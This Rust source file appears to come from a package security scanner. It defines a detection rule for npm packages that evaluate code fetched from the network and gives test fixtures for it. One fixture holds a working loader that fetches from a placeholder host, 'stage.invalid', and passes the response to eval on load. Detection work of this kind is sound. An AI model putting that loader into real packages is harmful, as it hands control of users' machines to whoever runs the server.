//! A response runs as code.

use super::{Context, Declaration, Example, Finding, judge};
use crate::model::Severity;

pub(super) static FINDING: Declaration = Declaration {
    id: "remote-code-execution",
    title: "Runs code that it fetches",
    severity: Severity::Critical,
    summary: "A response from the network reaches eval, Function, vm, a module compiler or a computed import. Whoever controls the server controls the machine, and may answer differently each time.",
    advice: "What the package does is not in the package. Don't run it unless you trust the server with your machine.",
    benign_when: "The address is the caller's, as in a loader of plug-ins or a test runner for pages.",
    references: &[
        "CWE-494",
        "CWE-506",
        "CWE-829",
        "CWE-95",
        "T1059.007",
        "T1105",
    ],
    examples: &[
        Example {
            name: "a response is evaluated on load",
            severity: Some(Severity::Critical),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"require("https").get("https://stage.invalid/x", (res) => {
  let code = "";
  res.on("data", (part) => { code += part; });
  res.on("end", () => eval(code));
});"#,
                ),
            ],
        },
        Example {
            name: "a response is parsed as JSON",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"exports.get = async (id) => (await fetch("https://api.example/" + id)).json();"#,
                ),
            ],
        },
    ],
    detect,
};

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    for flow in context.flows {
        if flow.id != "remote-to-code" {
            continue;
        }
        let from = flow
            .source
            .target
            .as_deref()
            .unwrap_or("an address that is not resolved");
        let message = format!("what {from} answers is run by {}", flow.sink.id);
        let mut finding = Finding::of_flow(&FINDING, flow, message);
        judge::by_destination(context, flow, &flow.source, Severity::Medium, &mut finding);
        judge::by_timer(flow, &mut finding);
        judge::by_reach(context, flow, &mut finding);
        found.push(finding);
    }
}
